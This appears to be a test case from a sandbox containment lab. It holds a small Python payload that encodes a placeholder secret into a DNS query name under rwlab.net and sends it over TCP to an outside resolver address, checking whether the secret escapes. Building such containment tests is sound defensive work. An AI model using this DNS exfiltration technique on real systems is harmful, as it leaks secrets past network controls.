"""asks the resolver by TCP"""

from act_parts import DNS_QUERY as _DNS_QUERY
from evidence import secret_left as succeeded

SHAPE = "DNS by its other road"
PROMISE = "P24"
LAB = True
WALLS = "network-namespace"
PYTHON = _DNS_QUERY + """
asked = query("@SECRET@.rwlab.net", 1)
with socket.create_connection(("93.184.216.53", 53), 30) as line:
    line.sendall(struct.pack(">H", len(asked)) + asked)
    line.recv(999)
"""
